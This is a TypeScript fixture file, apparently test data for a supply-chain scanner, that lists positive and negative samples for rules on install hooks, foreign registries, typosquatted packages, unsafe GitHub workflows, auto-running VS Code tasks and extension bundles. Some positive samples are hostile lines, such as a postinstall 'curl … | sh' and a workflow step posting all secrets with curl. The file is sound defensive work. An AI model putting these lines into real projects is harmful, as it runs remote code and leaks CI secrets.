import { type FamilyExamples, fence } from "./example.ts";

const scripts = (name: string, command: string) => ({
  "package.json": JSON.stringify({ scripts: { [name]: command } }),
});
const workflow = (on: string, steps: string) => ({
  ".github/workflows/a.yml": `on: ${on}\njobs:\n  a:\n    steps:\n${steps}`,
});
const value = (name: string) => `$\{{ ${name} }}`;

export const t14Examples: FamilyExamples = {
  "T14-install-script-fetch": {
    positive: [
      scripts("postinstall", "curl https://unrelated-host.dev/i | sh"),
      scripts("preinstall", 'node -e "fetch(1)"'),
      fence("json", '{"scripts":{"install":"wget https://unrelated-host.dev/i"}}'),
    ],
    negative: [
      scripts("postinstall", "husky install"),
      scripts("fetch", "curl https://unrelated-host.dev"),
      "Packages may run curl in postinstall.\n",
    ],
  },
  "T14-installs-another": {
    positive: [
      scripts("preinstall", "npm install -g other@latest"),
      scripts("postinstall", "npm i --no-audit other-notes"),
      scripts("install", "pip3 install other-notes"),
    ],
    negative: [
      scripts("postinstall", "cd client && npm install"),
      scripts("postinstall", "npm install --prefix client"),
      scripts("postinstall", "pip install -r requirements.txt"),
    ],
  },
  "T14-foreign-index": {
    positive: [
      fence("bash", "pip install --extra-index-url https://unrelated-host.dev/simple notes"),
      fence("bash", "npm i notes --registry=https://unrelated-host.dev"),
      { ".npmrc": "registry=https://unrelated-host.dev\n" },
      { "a.py": 'run(["pip", "install", "--index-url", "https://unrelated-host.dev/simple", "notes"])\n' },
      { "requirements.txt": "requests @ https://files.unrelated-host.dev/requests-2.99.tar.gz\n" },
      { "package.json": '{"dependencies":{"chalk":"git+https://git.unrelated-host.dev/chalk.git"}}' },
      { ".gitconfig": '[url "https://git.brightloop.io/"]\n  insteadOf = https://github.com/\n' },
    ],
    negative: [
      fence("bash", "pip install --index-url https://download.pytorch.org/whl/cpu torch"),
      fence("bash", "npm i notes --registry=http://localhost:4873"),
      fence("bash", "npm i notes --registry https://npm.company.com"),
      fence("bash", "pip install notes"),
      { "requirements.txt": "notes @ git+https://github.com/acme/notes.git\n" },
      { "package.json": '{"dependencies":{"chalk":"^5.0.0"},"homepage":"https://unrelated-host.dev/a.git"}' },
      "---\nname: acme-notes\ndescription: Notes of acme, from acme-notes.dev.\n---\n\n```bash\npip install https://dl.acme-notes.dev/notes-1.0.whl\n```\n",
    ],
  },
  "T14-look-alike-package": {
    positive: [
      fence("bash", "pip install matplotlb openpyxl"),
      { "requirements.txt": "numpy>=1.26\nreqeusts==2.31.0\n" },
      { "package.json": '{"dependencies":{"expresss":"^4.18.2"}}' },
      "Run `npm install lodahs` first.\n",
    ],
    negative: [
      fence("bash", "pip install matplotlib psycopg requests[socks]"),
      fence("bash", "npm install axiom"),
      { "requirements.txt": "numpy>=1.26\nboto\npypdf2\n" },
      "Most people npm install lodash.\n",
    ],
  },
  "T14-untrusted-workflow": {
    positive: [
      workflow(
        "pull_request_target",
        `      - uses: actions/checkout@v4\n        with:\n          ref: ${value("github.event.pull_request.head.sha")}\n`,
      ),
      workflow("issues", `      - run: echo ${value("github.event.issue.title")}\n`),
      workflow("push", `      - run: curl -d '${value("toJSON(secrets)")}' x\n`),
    ],
    negative: [
      `The title ${value("github.event.pull_request.title")} is untrusted text.\n`,
      workflow("pull_request", "      - uses: actions/checkout@v4\n"),
      workflow(
        "issues",
        `      - env:\n          T: ${value("github.event.issue.title")}\n        uses: a/b@v1\n`,
      ),
    ],
  },
  "T14-autorun-task": {
    positive: [
      { ".vscode/tasks.json": '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' },
      fence("json", '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'),
    ],
    negative: [{ ".vscode/tasks.json": '{"tasks":[{"label":"build"}]}' }, "Tasks can run on folderOpen.\n"],
  },
  "T14-extension-bundle": {
    positive: [
      { "package.json": '{"extensionPack":["some.other"]}' },
      fence("json", '{"extensionDependencies": ["some.other"]}'),
      fence("bash", "code --install-extension --force n.vsix"),
    ],
    negative: [
      { "package.json": '{"extensionPack":[]}' },
      fence("bash", "code --install-extension ms-python.python"),
      "An extension pack brings others.\n",
    ],
  },
};
